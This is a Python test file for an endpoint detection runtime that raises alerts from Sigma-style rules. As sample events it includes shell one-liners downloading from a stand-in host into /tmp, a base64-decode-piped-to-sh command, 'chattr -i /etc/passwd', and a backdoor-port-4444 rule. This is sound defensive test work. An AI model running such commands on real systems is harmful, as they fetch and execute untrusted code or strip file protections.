"""The detections runtime over a real store and bus: matches become alerts with the rule's id, repeats
count on one alert with at most one follow-up per window, a restart catches up exactly once, relayed
events are left alone unless asked, and the process table gives execs their parent."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from amoskys.detections.runtime import CURSOR
from amoskys.metrics import Metrics
from amoskys.proto import events_pb2 as ev
from amoskys.store import Record

from .runtime_harness import (
    BASE64,
    DOWNLOAD,
    NAME,
    RULES,
    detections,
    download,
    exec_event,
    running_store,
)
from support import eventually

S = 1_000_000_000


async def test_a_matching_exec_raises_one_alert_with_the_rule_id_and_a_benign_one_none(
    tmp_path: Path,
) -> None:
    async with detections(tmp_path) as d:
        benign = [
            exec_event(d.stamper, 200, 1, "/usr/bin/dash", ["sh", "-c", "curl --version; true"]),
            exec_event(d.stamper, 201, 200, "/usr/bin/curl", ["curl", "--version"]),
            exec_event(
                d.stamper, 202, 1, "/usr/bin/curl", ["curl", "-o", "/tmp/x", "http://x/"]
            ),  # no shell parent
        ]
        await d.publish(benign)
        bad = download(d.stamper, 100)
        await d.publish(bad)
        [alert] = await eventually(d.alerts, what="the alert row")
        await eventually(lambda: d.runtime.position >= d.store.last_seq, what="the confirmation pass")
    assert alert["rule_id"] == alert["rule"] == DOWNLOAD
    assert alert["title"] == "Download Into Tmp By A Shell One-Liner" and alert["level"] == "medium"
    assert json.loads(alert["tags"]) == ["attack.command-and-control", "attack.t1105"]
    assert alert["host"] == NAME and alert["count"] == 1 and alert["state"] == "new"
    assert json.loads(alert["related_event_ids"]) == [bad[1].event_id]  # the curl exec
    attributes = json.loads(alert["attributes"])
    assert attributes["ParentImage"] == "/usr/bin/dash"  # from the process table
    assert attributes["ParentCommandLine"] == "sh -c curl -s -o /tmp/p http://x/p; true"
    assert attributes["CurrentDirectory"] == "/root"
    assert alert["first_seen_ns"] == alert["last_seen_ns"] == bad[1].ts_ns
    assert d.metric("amoskys_detections_alert_events_total", kind="opened") == 1
    evaluated = [d.metric("amoskys_detections_events_evaluated_total", path=p) for p in ("live", "catchup")]
    assert sum(evaluated) == 5 and evaluated[0] >= 2  # each exec once; these came live
    assert d.metric("amoskys_detections_rules", status="loaded") == 4


async def test_repeats_count_on_one_alert_with_one_follow_up_per_window(tmp_path: Path) -> None:
    async with detections(tmp_path, alert_window_seconds=1) as d:
        t0 = d.stamper.stamp(ev.Envelope()).ts_ns
        first = download(d.stamper, 100, ts_ns=t0)
        await d.publish(first)
        await eventually(d.alerts, what="the alert")
        repeats = [e for i in range(3) for e in download(d.stamper, 110 + 10 * i, ts_ns=t0 + i + 1)]
        await d.publish(repeats)
        # the row counts the repeats at once (no event yet), the follow-up comes a window later
        await eventually(lambda: _count_is(d, 4), what="the row to count the repeats")
        follow_ups = await eventually(
            lambda: _alert_events(d, follow_up=True), within=5, what="one follow-up"
        )
        later = download(d.stamper, 200, ts_ns=t0 + 3 * S)  # a window after the last match: a new alert
        await d.publish(later)
        await eventually(lambda: _rows(d, 2), what="a second alert")
        all_events = await _alert_events(d)
    [follow_up] = follow_ups
    [row1, row2] = await _rows(d, 2)
    assert row1["count"] == 4 and row2["count"] == 1
    assert follow_up.alert.alert_id == row1["alert_id"] and follow_up.alert.count == 4
    assert list(follow_up.alert.related_event_ids) == [repeats[i].event_id for i in (1, 3, 5)]
    assert json.loads(row1["related_event_ids"]) == [first[1].event_id] + [
        repeats[i].event_id for i in (1, 3, 5)
    ]
    assert row1["last_seen_ns"] == t0 + 3 and row1["last_seq"] > row1["store_seq"]
    assert sorted(e.alert.count for e in all_events) == [1, 1, 4]  # two openings, one follow-up


async def test_catch_up_after_a_restart_raises_what_was_missed_exactly_once(tmp_path: Path) -> None:
    metrics = Metrics()
    async with running_store(tmp_path / "events.db", metrics) as store:
        async with detections(tmp_path, store=store, metrics=metrics) as d:
            stamper = d.stamper
            saved = d.runtime.position
        # committed while no detections run (a stopped appliance's agents, a crash before evaluation)
        missed = [
            *download(stamper, 300),
            exec_event(stamper, 400, 1, "/usr/bin/dash", ["sh", "-c", "echo ZWNobyBoaQo= | base64 -d | sh"]),
            exec_event(stamper, 401, 400, "/usr/bin/base64", ["base64", "-d"]),
        ]
        await store.submit([Record.from_envelope(e) for e in missed], local=True)
        async with detections(tmp_path, store=store, metrics=metrics) as d:
            found = await eventually(lambda: _rows(d, 2), what="the missed alerts")
            await eventually(lambda: d.runtime.position >= store.last_seq, what="the catch-up")
        assert {r["rule_id"] for r in found} == {DOWNLOAD, BASE64}
        assert (
            metrics.registry.get_sample_value(
                "amoskys_detections_events_evaluated_total", {"path": "catchup"}
            )
            == 4
        )
        # a crash after evaluating and before saving the position: the same events are evaluated again
        await store.submit_ops([_ResetCursor(saved)])
        async with detections(tmp_path, store=store, metrics=metrics) as d:
            await eventually(lambda: d.runtime.position >= store.last_seq, what="the second catch-up")
            await store.submit_ops(())  # what the catch-up queued (row updates) is committed by then
            again = await d.alerts()
            events = await _alert_events(d)
        # and a plain restart evaluates nothing twice
        async with detections(tmp_path, store=store, metrics=metrics) as d:
            await eventually(lambda: d.runtime.position >= store.last_seq, what="the third start")
    assert [(r["rule_id"], r["count"]) for r in again] == [(r["rule_id"], 1) for r in found]
    assert len(events) == 2  # the same derived event ids: stored once
    assert (
        metrics.registry.get_sample_value("amoskys_detections_events_evaluated_total", {"path": "catchup"})
        == 8
    )


async def test_events_through_a_relay_are_evaluated_only_when_relayed_is_on(tmp_path: Path) -> None:
    from amoskys.events import EnvelopeStamper

    agent, relayed = EnvelopeStamper("agent-7"), EnvelopeStamper("far-agent")

    def remote(stamper: EnvelopeStamper, origin: str, pid: int) -> list[Record]:
        return [Record.from_envelope(e, origin=origin) for e in download(stamper, pid)]

    async with detections(tmp_path) as d:
        # straight from an agent (origin = its own name), and through a relay or the NATS hub
        await d.store.submit(remote(agent, "agent-7", 10) + remote(relayed, "relay-1", 20), local=True)
        await d.store.submit(remote(EnvelopeStamper("hub-box"), "nats:site-b", 30), local=True)
        await eventually(lambda: d.runtime.position >= d.store.last_seq, what="the pass")
        await d.store.submit_ops(())  # the alerts it published are committed by then
        got = await d.alerts()
        skipped = d.metric("amoskys_detections_events_skipped_total", reason="relayed")
    assert [r["host"] for r in got] == ["agent-7"] and skipped == 4
    async with detections(tmp_path / "on", relayed="on") as d:
        await d.store.submit(remote(relayed, "relay-1", 20), local=True)
        [row] = await eventually(d.alerts, what="the relayed event's alert")
    assert row["host"] == "far-agent" and row["rule_id"] == DOWNLOAD


async def test_a_parent_that_exited_before_its_child_exec_is_still_its_parent(tmp_path: Path) -> None:
    async with detections(tmp_path) as d:
        shell = exec_event(
            d.stamper, 500, 1, "/usr/bin/bash", ["bash", "-c", "curl -o /tmp/a http://x & exit"]
        )
        gone = d.stamper.stamp(
            ev.Envelope(process=ev.ProcessEvent(kind=ev.ProcessEvent.EXIT, pid=500, ppid=1))
        )
        child = exec_event(d.stamper, 501, 500, "/usr/bin/curl", ["curl", "-o", "/tmp/a", "http://x"])
        await d.publish([shell, gone, child])
        [row] = await eventually(d.alerts, what="the alert")
    assert json.loads(row["attributes"])["ParentImage"] == "/usr/bin/bash"


# ---------------------------------------------------------------------------- helpers


class _ResetCursor:
    """Put the saved position back (what a crash before the save leaves)."""

    def __init__(self, seq: int) -> None:
        self.seq = seq

    def run(self, conn, now_ns: int) -> None:  # type: ignore[no-untyped-def]
        conn.execute("UPDATE detection_cursor SET store_seq = ? WHERE name = ?", (self.seq, CURSOR))


async def _count_is(d, n: int) -> bool:  # type: ignore[no-untyped-def]
    got = await d.alerts()
    return bool(got) and int(got[0]["count"]) == n


async def _rows(d, n: int) -> list[dict]:  # type: ignore[no-untyped-def,type-arg]
    got = await d.alerts()
    return got if len(got) == n else []


async def _alert_events(d, *, follow_up: bool | None = None) -> list[ev.Envelope]:  # type: ignore[no-untyped-def]
    raws = await d.query("SELECT envelope FROM events WHERE kind = 'alert' ORDER BY store_seq")
    out = [ev.Envelope.FromString(r[0]) for r in raws]
    if follow_up is not None:
        out = [e for e in out if (e.alert.alert_id != e.event_id) == follow_up]
    return out


NETWORK_RULE = """title: Connection to a Backdoor Port
id: 90b01ef1-3f62-4e65-a740-6ddaee2c8a3b
status: test
description: Detects connections to port 4444 outside private ranges.
author: AMOSKYS tests
date: 2026-12-03
logsource:
    product: linux
    category: network_connection
detection:
    selection:
        DestinationPort: 4444
    filter_private:
        DestinationIp|cidr: '10.0.0.0/8'
    condition: selection and not filter_private
level: high
"""


async def test_flows_match_network_rules_and_rule_files_are_reloaded_when_they_change(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "net.yml").write_text(NETWORK_RULE)
    async with detections(tmp_path, sigma_paths=(str(rules),)) as d:
        assert d.desk.rules().loaded == 1

        def flow(dst: str) -> ev.Envelope:
            return d.stamper.stamp(
                ev.Envelope(
                    flow=ev.FlowRecord(
                        src_addr="10.1.1.5", src_port=50000, dst_addr=dst, dst_port=4444, protocol=6
                    )
                )
            )

        await d.publish([flow("10.9.9.9"), flow("203.0.113.7")])
        [row] = await eventually(d.alerts, what="the flow's alert")
        assert row["rule_id"] == "90b01ef1-3f62-4e65-a740-6ddaee2c8a3b" and row["level"] == "high"
        assert row["summary"] == "Connection to a Backdoor Port: 10.1.1.5:50000 -> 203.0.113.7:4444/tcp"
        # a new file is picked up, a broken one is reported, without a restart
        chattr = (RULES / "proc_creation_lnx_chattr_immutable_removal.yml").read_text()
        await asyncio.to_thread((rules / "chattr.yml").write_text, chattr)
        await asyncio.to_thread((rules / "broken.yml").write_text, "title: [unclosed\n")
        await eventually(lambda: d.desk.rules().loaded == 2, what="the reload")
        view = d.desk.rules()
        assert view.invalid == 1 and [i.status for i in view.items if i.path.endswith("broken.yml")] == [
            "invalid"
        ]
        assert d.metric("amoskys_detections_rules", status="invalid") == 1
        await d.publish([exec_event(d.stamper, 9, 1, "/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"])])
        await eventually(lambda: _rows(d, 2), what="the reloaded rule's alert")


async def test_records_the_fan_out_dropped_are_evaluated_from_the_store_in_order(tmp_path: Path) -> None:
    async with detections(tmp_path, subscription_events=1) as d:
        # one publish of 20 execs into a subscription that holds one: 19 dropped at once
        batch = [e for i in range(10) for e in download(d.stamper, 100 + 10 * i, url=f"http://x/{i}")]
        await d.publish(batch)
        await eventually(lambda: _count_is(d, 10), what="every download counted")
        await eventually(lambda: d.runtime.position >= d.store.last_seq, what="the catch-up")
        dropped = d.metric("amoskys_bus_subscriber_dropped_total", subscriber="detections")
        catchup = d.metric("amoskys_detections_events_evaluated_total", path="catchup")
        live = d.metric("amoskys_detections_events_evaluated_total", path="live")
    assert dropped == 19 and catchup == 20 and live == 0  # behind: the store's order, parents first
